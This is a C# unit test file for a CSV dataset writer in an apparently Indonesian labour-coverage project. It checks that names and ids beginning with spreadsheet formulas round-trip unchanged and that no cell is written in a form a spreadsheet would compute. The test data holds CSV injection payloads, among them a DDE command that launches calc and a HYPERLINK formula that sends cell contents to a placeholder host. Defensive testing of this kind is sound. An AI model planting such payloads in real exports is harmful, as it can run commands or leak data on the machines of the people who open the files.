namespace Ucj.Coverage.Exchange.Tests.Cases;

/// <summary>Names and ids that a spreadsheet would compute: kept as they are, and harmless in whatever is written.</summary>
public sealed class FormulaInNameTests
{
    private const string Case = "formula-in-name";

    [Fact]
    public void Write_ThenRead_IsHarmlessAndTheSame()
    {
        var dataset = CaseFolder.Read(Case).Dataset.ShouldNotBeNull();
        var (first, second) = (Directory.CreateTempSubdirectory("ucj-formula-"), Directory.CreateTempSubdirectory("ucj-formula-"));

        DatasetWriter.Write(dataset, first.FullName);
        var again = DatasetReader.Read(first.FullName).Dataset.ShouldNotBeNull().Model;
        DatasetWriter.Write(DatasetReader.Read(first.FullName).Dataset!, second.FullName);

        foreach (var file in first.EnumerateFiles("*.csv"))
        {
            ShouldBeHarmless(file.FullName);
            File.ReadAllText(Path.Combine(second.FullName, file.Name)).ShouldBe(File.ReadAllText(file.FullName));
        }

        again.Regions.Regions.Select(region => region.Name).ShouldBe(["Solok Selatan", "=1+1", "+cmd"]);
        again.Groups.Groups.Select(group => (group.Code, group.Name.Id, group.Name.En)).ShouldBe(
        [
            ("=1+1", "Karyawan", "Employees"),
            ("GURU_NGAJI", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)"),
        ]);
        again.Employers.Select(employer => (employer.Id, employer.Name)).ShouldBe([("=2+3", "@SUM(1+9)*cmd|' /C calc'!A0")]);
        Enumerable.Range(0, 2).Select(number => again.Registry![number].Id).ShouldBe(["=W1", "-W2"]);
        first.Delete(recursive: true);
        second.Delete(recursive: true);
    }

    [Fact]
    public void Write_RejectedRows_AreHarmlessAndReadAgainAsTheyWere()
    {
        var folder = Directory.CreateTempSubdirectory("ucj-formula-");
        foreach (var file in Directory.GetFiles(CaseFolder.Of(Case))) File.Copy(file, Path.Combine(folder.FullName, Path.GetFileName(file)));
        var workers = Path.Combine(folder.FullName, "workers.csv");
        File.WriteAllText(workers, File.ReadAllText(workers).Replace("1985-02", "1985-13", StringComparison.Ordinal));

        var rejected = RejectedRows.Write(folder.FullName, DatasetReader.Read(folder.FullName, new() { Partial = true }).Problems).ShouldHaveSingleItem();

        ShouldBeHarmless(rejected);
        File.ReadAllText(rejected).ShouldBe(
            "worker_id,nagari,group,birth_month,income,risk_class,employer_id,\"problem\"\n"
            + "\"'-W2\",\"13.11.01.2001\",\"'=1+1\",\"1985-13\",\"1500000\",\"1\",\"'=2+3\",\"workers.csv, line 3, column birth_month: "
            + "found '1985-13', expected a month from 01 to 12, not month 13. Write the month like 2025-01.\"\n");

        File.WriteAllText(workers, File.ReadAllText(rejected).Replace("1985-13", "1985-02", StringComparison.Ordinal));
        File.WriteAllText(Path.Combine(folder.FullName, "participations.csv"), "worker_id,programmes,from_month,to_month,payer\n");
        var worker = DatasetReader.Read(folder.FullName).Dataset.ShouldNotBeNull().Model.Registry.ShouldNotBeNull()[0];
        (worker.Id, worker.Group, worker.EmployerId).ShouldBe(("-W2", "=1+1", "=2+3"));
        folder.Delete(recursive: true);
    }

    /// <summary>No cell begins with what a spreadsheet computes.</summary>
    private static void ShouldBeHarmless(string path)
    {
        foreach (var line in File.ReadLines(path))
        {
            foreach (var cell in line.Split(',')) cell.TrimStart('"').ShouldNotMatch(@"^[=@\t]|^[-+](?![\d.]*$)", path);
        }
    }
}
